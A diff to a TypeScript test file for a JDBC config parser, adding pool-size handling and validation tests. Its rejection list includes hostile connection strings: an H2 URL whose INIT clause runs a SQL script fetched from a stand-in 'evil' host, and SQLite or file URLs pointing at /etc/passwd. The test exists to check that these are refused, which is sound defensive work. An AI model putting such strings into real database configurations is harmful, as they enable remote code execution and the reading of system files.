@@ -5,15 +5,35 @@ import { parseJdbcConfig } from './jdbc-config';
 
 describe('parseJdbcConfig', () => {
   it("maps Datart's JDBC shape to native configs", () => {
-    expect(parseJdbcConfig({ dbType: 'POSTGRESQL', url: 'jdbc:postgresql://db.example.com:6543/sales?sslmode=require', user: 'u', password: 'p' })).toEqual({
-      kind: 'postgres', host: 'db.example.com', port: 6543, database: 'sales', user: 'u', password: 'p', ssl: true,
+    expect(
+      parseJdbcConfig({
+        dbType: 'POSTGRESQL',
+        url: 'jdbc:postgresql://db.example.com:6543/sales?sslmode=require',
+        user: 'u',
+        password: 'p',
+      }),
+    ).toEqual({
+      kind: 'postgres',
+      host: 'db.example.com',
+      port: 6543,
+      database: 'sales',
+      user: 'u',
+      password: 'p',
+      ssl: true,
+      poolSize: 10,
     });
-    expect(parseJdbcConfig({ dbType: 'MYSQL', url: 'jdbc:mysql://10.0.0.5/shop', user: 'root' })).toMatchObject({ kind: 'mysql', host: '10.0.0.5', port: 3306, database: 'shop', ssl: false });
-    expect(parseJdbcConfig({ dbType: 'mariadb', url: 'jdbc:mariadb://[::1]:3307/x' })).toMatchObject({ kind: 'mysql', host: '::1', port: 3307 });
+    expect(
+      parseJdbcConfig({ dbType: 'MYSQL', url: 'jdbc:mysql://10.0.0.5/shop', user: 'root' }),
+    ).toMatchObject({ kind: 'mysql', host: '10.0.0.5', port: 3306, database: 'shop', ssl: false });
+    expect(parseJdbcConfig({ dbType: 'mariadb', url: 'jdbc:mariadb://[::1]:3307/x' })).toMatchObject({
+      kind: 'mysql',
+      host: '::1',
+      port: 3307,
+    });
   });
 
   it.each([
-    ['H2', 'jdbc:h2:mem:test;INIT=RUNSCRIPT FROM \'http://evil/x.sql\''],
+    ['H2', "jdbc:h2:mem:test;INIT=RUNSCRIPT FROM 'http://evil/x.sql'"],
     ['SQLITE', 'jdbc:sqlite:/etc/passwd'],
     ['POSTGRESQL', 'jdbc:postgresql:///var/run/postgresql'],
     ['POSTGRESQL', 'file:///etc/passwd'],
@@ -27,6 +47,23 @@ describe('parseJdbcConfig', () => {
       expect.unreachable();
     } catch (e) {
       expect(isQueryError(e, 'SOURCE_CONFIG_INVALID')).toBe(true);
+    }
+  });
+
+  it('reads the pool size from the config or its properties, 1..100, default 10', () => {
+    const base = { dbType: 'POSTGRESQL', url: 'jdbc:postgresql://h/db' };
+    expect(parseJdbcConfig(base).poolSize).toBe(10);
+    expect(parseJdbcConfig({ ...base, poolSize: 25 }).poolSize).toBe(25);
+    expect(parseJdbcConfig({ ...base, poolSize: '3' }).poolSize).toBe(3);
+    expect(parseJdbcConfig({ ...base, properties: { poolSize: 100 } }).poolSize).toBe(100);
+    expect(parseJdbcConfig({ ...base, poolSize: 1, properties: { poolSize: 50 } }).poolSize).toBe(1);
+    for (const bad of [0, 101, 2.5, -1, 'ten', '1e2', true]) {
+      try {
+        parseJdbcConfig({ ...base, properties: { poolSize: bad } });
+        expect.unreachable(`poolSize ${String(bad)} was accepted`);
+      } catch (e) {
+        expect(isQueryError(e, 'SOURCE_CONFIG_INVALID')).toBe(true);
+      }
     }
   });
 
